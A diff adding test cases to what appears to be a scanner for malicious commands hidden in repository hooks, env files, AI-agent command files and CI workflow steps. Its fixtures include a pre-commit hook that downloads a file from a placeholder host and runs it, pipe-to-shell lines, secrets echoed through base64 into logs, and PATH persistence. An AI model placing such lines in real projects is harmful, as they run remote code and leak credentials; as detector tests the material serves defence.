@@ -49,6 +49,9 @@ def told(path: str, text: str) -> dict[str, tuple[str, int]]:
         ("mise.toml", f'[tasks.x]\nrun = "{PIPED}"\n', ("call", 2)),
         (".vscode/tasks.json", json.dumps({"tasks": [{"label": "x", "command": PIPED}]}), ("call", 1)),
         (".windsurf/hooks.json", json.dumps({"hooks": {"x": [{"command": PIPED}]}}), ("install", 1)),
+        (".husky/pre-commit", "curl -o x https://c.invalid/x\nsh x\n", ("install", 2)),
+        (".envrc", f"export A=1\n{PIPED}\n", ("install", 2)),
+        (".claude/commands/x.md", f"!`{PIPED}`\n", ("import", 1)),
         (".gitconfig", f"[alias]\n\tst = !{PIPED}\n", ("install", 2)),
         (".bashrc", f"true\n{PIPED}\n", ("call", 2)),
         ("PKGBUILD", f"build() {{\n  {PIPED}\n}}\n", ("call", 2)),
@@ -106,6 +109,8 @@ def test_magics_of_a_notebook_are_read(source: str, chain: str) -> None:
         (f'    - run: echo\n      shell: bash -c "{PIPED}" {{0}}\n', CHAIN),
         ("    - run: echo\n      env:\n        BASH_ENV: ./x\n", "module-tampering BASH_ENV"),
         ('    - run: echo "LD_PRELOAD=./x.so" >> $GITHUB_ENV\n', "module-tampering LD_PRELOAD"),
+        ("    - run: echo /tmp/x >> $GITHUB_PATH\n", "persistence GITHUB_PATH"),
+        ("    - run: echo ${{ secrets.A }} | base64 | base64\n", "exfiltration A -> log"),
     ],
 )
 def test_steps_of_a_workflow_are_read(steps: str, chain: str) -> None:
@@ -123,6 +128,8 @@ def test_steps_of_a_workflow_are_read(steps: str, chain: str) -> None:
         ("Dockerfile", "FROM a\nADD https://left.example/x.txt /x.txt\nCMD node build.js\n"),
         ("a.conf", f"# {PIPED}\nkey = value\n"),
         ("a.rules", 'ACTION=="add", RUN+="/usr/bin/left %k"\n'),
+        (".envrc", "export A=1\nPATH_add bin\n"),
+        (".claude/commands/x.md", f"Install it by `{PIPED}`.\n"),
         (".github/workflows/a.yml", "on: push\njobs: {a: {steps: [{run: 'echo A=1 >> $GITHUB_ENV'}]}}\n"),
     ],
 )
